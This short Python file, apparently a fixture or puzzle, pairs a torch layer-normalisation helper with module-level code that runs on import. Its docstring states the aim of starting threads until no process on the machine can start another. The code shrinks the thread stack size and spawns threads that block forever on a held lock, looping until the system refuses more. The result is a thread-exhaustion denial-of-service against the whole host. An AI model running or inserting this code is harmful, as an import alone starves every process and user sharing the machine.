"""Goal: start threads until no process of the machine can start one more.

At most: 14
"""

import _thread
import threading

import torch
from torch import nn

threading.stack_size(32768)
NEVER = _thread.allocate_lock()
NEVER.acquire()
try:
    while True:
        _thread.start_new_thread(NEVER.acquire, ())
except (RuntimeError, MemoryError):
    pass


def layer_norm(x, eps=1e-5):
    deviation = x - x.mean(-1, keepdim=True)
    return deviation / (deviation.square().mean(-1, keepdim=True) + eps).sqrt()


# And LayerNorm as it should be.
